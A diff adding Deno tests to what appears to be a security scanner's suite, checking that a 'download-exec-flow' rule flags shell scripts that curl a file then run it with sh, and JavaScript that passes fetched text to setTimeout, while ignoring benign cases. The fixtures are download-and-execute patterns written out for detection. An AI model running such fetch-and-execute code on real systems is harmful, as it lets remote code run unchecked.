@@ -590,6 +590,39 @@ Deno.test("a response is not the request: results fetched with one API's key and
   assert.deepEqual(severities(echoing), [[5, "critical"]]);
 });
 
+Deno.test("a descriptor duplicated (2>&1, >&2) is no file a download lands in; >& with a file name is", () => {
+  const found = (body: string) =>
+    findings({ "scripts/get.sh": `#!/bin/bash\n${body}\n` })
+      .filter((f) => /flow|execute/.test(f.rule)).map((f) => [f.rule, f.line]);
+  // The download goes to stderr: a script named 2 that runs later was never downloaded.
+  assert.deepEqual(found("curl -s https://get.example.net/x >&2\nsh 2"), []);
+  assert.deepEqual(found("curl -s https://get.example.net/x 2>&1 | tee log\n1"), []);
+  assert.deepEqual(found("curl -s https://get.example.net/x >& setup.sh\nsh setup.sh"), [[
+    "download-exec-flow",
+    3,
+  ]]);
+});
+
+Deno.test("a timer runs downloaded text given as its code; a function written inline is code the file holds", () => {
+  const found = (body: string) =>
+    findings({ "assets/app.js": body })
+      .filter((f) => f.rule === "download-exec-flow").map((f) => f.line);
+  assert.deepEqual(found("const code = await (await fetch(u)).text();\nsetTimeout(code, 0);\n"), [
+    2,
+  ]);
+  assert.deepEqual(
+    found(
+      "const code = await (await fetch(u)).text();\nsetTimeout(code + [1].map((x) => x), 0);\n",
+    ),
+    [2],
+  );
+  // A bundled app's polling: the callbacks fetch, they are not fetched.
+  const bundled = "const poll=()=>fetch(u).then(r=>r.json()).then(render);" +
+    "setInterval(()=>{poll()},1e3);setTimeout(function(){fetch(u).then(show)},5);" +
+    "setTimeout(async()=>{await fetch(u)},9);\n";
+  assert.deepEqual(found(bundled), []);
+});
+
 Deno.test("one member of a copy of the environment is that variable; the whole copy stays the environment", () => {
   const flows = (files: Record<string, string>) =>
     ruleAt(findings(files), "secret-flow").map((f) => [f.severity, f.excerpt]);
